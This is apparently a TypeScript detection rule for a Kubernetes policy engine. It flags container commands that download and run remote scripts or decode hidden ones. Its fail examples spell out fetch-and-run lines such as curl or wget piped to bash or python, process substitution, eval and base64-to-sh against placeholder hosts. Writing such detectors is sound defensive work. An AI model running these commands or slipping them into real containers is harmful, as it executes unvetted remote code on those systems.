import { container, cronJob, defineControl, deployment, pod, podWith } from '@plimsoll/engine';
import { mayFetch, remoteScriptIn } from './parts/remote-script.ts';
import { commandTexts } from './parts/start-command.ts';

const why = {
  download: 'runs what an address serves at that moment',
  encoded: 'runs a script that is hidden in an encoding',
} as const;

export default defineControl({
  id: 'pod-remote-script-entrypoint',
  title: 'Start command downloads and runs code',
  severity: 'high',
  subject: 'container',
  rationale:
    'What runs is decided by whoever answers at the address each time the container starts; no registry, scanner or signature ever sees it. Encoded scripts are how miners and back doors are started.',
  remediation: 'Put the program into the image, pinned and checked when the image is built.',
  check: ({ spec, path }, context) => {
    const texts = commandTexts(spec);
    if (!texts.some(({ text }) => mayFetch(text))) return;
    let reported = false;
    for (const { field, text } of texts) {
      const found = remoteScriptIn(text);
      if (found === undefined) continue;
      reported = true;
      context.report(`${path}.${field}`, text, why[found]);
    }
    // A pipe whose words are items of their own: an entrypoint that hands them to a shell.
    const whole = reported ? undefined : remoteScriptIn(texts.map(({ text }) => text).join(' '));
    if (whole !== undefined) context.report(`${path}.${texts[0]?.field ?? 'command'}`, texts[0]?.text, why[whole]);
  },
  examples: {
    fail: [
      {
        given: podWith({ command: ['sh', '-c', 'curl -fsSL https://get.example.com/i | bash'] }),
        at: ['spec.containers[0].command[2]'],
      },
      {
        given: deployment({
          containers: [
            container({ command: ['bash', '-c'], args: ['cd /tmp && wget -qO- http://x.example/a.py|python3 -'] }),
          ],
        }),
        at: ['spec.template.spec.containers[0].args[0]'],
      },
      {
        name: 'through a filter and as another user',
        given: cronJob({ containers: [container({ args: ['curl x.example | tr a b | sudo -E /bin/sh -s'] })] }),
        at: ['spec.jobTemplate.spec.template.spec.containers[0].args[0]'],
      },
      {
        name: 'substitutions',
        given: pod({
          initContainers: [
            container({ command: ['bash', '-c', 'bash <(curl -s https://x.example)'] }),
            container({ command: ['bash', '-c', 'eval "$(wget -qO- https://x.example)"'] }),
          ],
        }),
        at: ['spec.initContainers[0].command[2]', 'spec.initContainers[1].command[2]'],
      },
      {
        name: 'encoded',
        given: podWith({ command: ['sh', '-c', 'echo aWQ= | base64 -d | sh'] }),
        at: ['spec.containers[0].command[2]'],
      },
      {
        name: 'in items of their own',
        given: podWith({ command: ['curl', 'x.example', '|', 'sh'] }),
        at: ['spec.containers[0].command[0]'],
      },
    ],
    pass: [
      { given: pod({}) },
      {
        name: 'a probe of a health page',
        given: podWith({ command: ['sh', '-c', 'curl -f localhost/health || exit 1'] }),
      },
      { name: 'kept as a file', given: podWith({ args: ['wget -O /data/list https://x.example; nginx'] }) },
      { name: 'looked through', given: podWith({ args: ['curl -s x.example | grep -q ok && bash run.sh'] }) },
      { name: 'decoded into a file', given: podWith({ args: ['echo $KEY | base64 -d > /run/key'] }) },
    ],
    undetermined: [{ given: podWith({ args: [null as never] }) }],
  },
});
